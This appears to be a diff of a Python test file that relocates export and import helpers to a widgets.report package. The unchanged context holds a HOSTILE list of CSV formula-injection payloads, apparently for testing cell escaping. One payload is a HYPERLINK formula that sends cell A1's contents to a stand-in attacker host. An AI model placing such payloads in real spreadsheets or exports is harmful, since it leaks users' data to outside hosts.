@@ -5,12 +5,12 @@ import io
 
 from openpyxl import load_workbook
 
-from widgets.exports import csv_bytes, xlsx_bytes
 from widgets.model.sessions import SessionSpec
 from widgets.model.validation import clean_text
+from widgets.report.exports import csv_bytes, xlsx_bytes
+from widgets.report.paper import import_paper, template_csv
+from widgets.report.transfer import export_session
 from widgets.store.cells import FORMULA_STARTS, csv_cell, from_csv_cell
-from widgets.store.paper import import_paper, template_csv
-from widgets.store.transfer import export_session
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=1+1"]
 
